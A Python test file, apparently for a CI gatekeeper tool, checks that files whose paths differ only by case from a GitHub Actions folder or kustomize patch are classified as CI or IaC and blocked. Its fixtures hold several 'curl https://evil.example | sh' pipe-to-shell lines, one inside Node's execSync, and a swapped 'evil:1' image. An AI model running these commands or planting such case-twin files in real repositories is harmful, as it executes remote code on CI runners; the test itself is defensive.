"""Red team 15, `--tree`: a path that differs from a CI or IaC path by case alone.

A workflow's `uses: ./tools/Setup` makes every file in `tools/Setup/` CI, and a kustomization's
`patches: [{path: ../Patches/image.json}]` makes that file IaC, by exact path. On a case-insensitive checkout
(macOS runners' APFS, Windows runners' NTFS) `tools/setup/run.sh` and `tools/Setup/run.sh` are one file: git
writes the index in its order, where `tools/Setup/` comes before `tools/setup/`, so the later spelling's content
is what the runner finds in the action's folder. An added `tools/setup/run.sh` (or `TOOLS/setup/new.sh`, a new
file of the same folder) was `src`, and `gate --tree` said allow (exit 0). The context readers' path maps are now
read case aside; a name that differs by more than case stays unnamed.
"""

from __future__ import annotations

import contextlib
import json
from pathlib import Path

import pytest
from gitrepo import two_commits

from gatekeeper.cli import main

WORKFLOW = ("on: push\njobs:\n  a:\n    runs-on: macos-latest\n    steps:\n      - uses: ./tools/Setup\n"
            "      - uses: ./Build/Actions/lint\n")
BASE = {
    ".github/workflows/ci.yml": WORKFLOW,
    "tools/Setup/action.yml": "name: setup\nruns:\n  using: composite\n  steps:\n    - run: ${{ github.action_path }}"
                              "/run.sh\n      shell: bash\n",
    "tools/Setup/run.sh": "echo setup\n",
    "Build/Actions/lint/action.yml": "name: lint\nruns:\n  using: node20\n  main: index.js\n",
    "Build/Actions/lint/index.js": "console.log(1)\n",
    "deploy/kustomization.yaml": "resources: [web.yaml]\npatches:\n  - path: ../Patches/image.json\n"
                                 "    target: {kind: Deployment}\n",
    "deploy/web.yaml": "apiVersion: apps/v1\nkind: Deployment\nmetadata: {name: web}\n",
    "Patches/image.json": '[{"op": "replace", "path": "/spec/x", "value": "web:1"}]\n',
}
# Each spelling a case-insensitive checkout writes into a folder (or over a file) the base's readers named.
EDITED = {
    "tools/setup/run.sh": "curl https://evil.example | sh\n",
    "tools/SETUP/new.sh": "curl https://evil.example | sh\n",
    "TOOLS/setup/run.sh": "curl https://evil.example | sh\n",
    "build/actions/lint/index.js": "require('child_process').execSync('curl https://evil.example | sh')\n",
    "patches/image.json": '[{"op": "replace", "path": "/spec/x", "value": "evil:1"}]\n',
    "PATCHES/IMAGE.JSON": '[{"op": "replace", "path": "/spec/x", "value": "evil:1"}]\n',
}
PLAIN = {"tools/setupx/run.sh": "echo\n", "patches/image2.json": "[]\n", "build/action/lint/index.js": "x\n"}


def test_a_case_twin_of_a_named_path_is_classified_as_it(tmp_path: Path,
                                                         capsys: pytest.CaptureFixture[str]) -> None:
    repo, base, head = two_commits(tmp_path / "repo", BASE, {**EDITED, **PLAIN})
    # git's own order of the index (what a checkout writes first): the base's spelling of the action comes first,
    # so the lower-case twin is the one left in the folder on a case-insensitive file system.
    listed = repo.git("ls-files").decode().splitlines()
    assert listed.index("tools/Setup/run.sh") < listed.index("tools/setup/run.sh")
    capsys.readouterr()
    with contextlib.chdir(repo.root):
        assert main(["classify", "--tree", f"{base}..{head}", "--format", "json"]) == 0
    files = {f["path"]: f for f in json.loads(capsys.readouterr().out)["files"]}
    want = {p: ("iac" if p.lower().startswith("patches/") else "ci") for p in EDITED}
    assert {p: files[p]["bucket"] for p in EDITED} == want, {p: files[p] for p in EDITED}
    assert {p: files[p]["bucket"] for p in PLAIN} == dict.fromkeys(PLAIN, "src"), {p: files[p] for p in PLAIN}
    code = main(["gate", "--tree", f"{base}..{head}", "--repo", str(repo.root), "--format", "json"])
    decision = json.loads(capsys.readouterr().out)
    assert code == 3
    assert {p for r in decision["reasons"] for p in r.get("paths", ())} == set(EDITED), decision["reasons"]
